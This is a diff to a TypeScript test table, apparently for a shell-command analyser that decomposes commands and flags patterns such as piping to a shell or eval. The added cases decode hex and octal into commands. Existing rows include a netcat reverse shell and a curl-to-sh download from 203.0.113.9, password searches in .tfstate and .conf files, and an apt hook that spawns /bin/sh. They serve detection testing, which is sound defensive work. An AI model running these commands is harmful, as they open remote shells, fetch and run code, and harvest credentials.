@@ -89,6 +89,8 @@ const CASES: Array<[string, string[]]> = [
   ["find / -name '*.tfstate' 2>/dev/null -exec grep -Hi password {} \\;", ['find / -name *.tfstate -exec grep -Hi password {} ;', 'exec-arg:grep -Hi password {}']],
   ['grep -r pw / 2>/dev/null --include=*.conf', ['grep -r pw / --include=*.conf']],
   ["echo 6964 | perl -pe 's/(..)/chr(hex($1))/ge' | sh", ['echo 6964', 'perl -pe s/(..)/chr(hex($1))/ge', 'sh', 'piped-to-shell:id']],
+  ["perl -e 'print pack(\"H*\",\"6964\")' | sh", ['perl -e print pack("H*","6964")', 'sh', 'piped-to-shell:id']],
+  ["awk 'BEGIN{system(\"\\151\\144\")}'", ['awk BEGIN{system("\\151\\144")}', 'interpreter:id']],
   ['sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh', ['apt-get update -o APT::Update::Pre-Invoke::=/bin/sh', 'exec-arg:/bin/sh']],
   ['_(){ nc $1 $2 -e /bin/sh; }; _ 203.0.113.9 4444', ['nc $1 $2 -e /bin/sh', '_ 203.0.113.9 4444', 'eval:nc 203.0.113.9 4444 -e /bin/sh']],
   ['g(){ "$@" | sh; }; g curl -s http://203.0.113.9/x', ['$@', 'sh', 'g curl -s http://203.0.113.9/x', 'eval:curl -s http://203.0.113.9/x', 'eval:sh']],
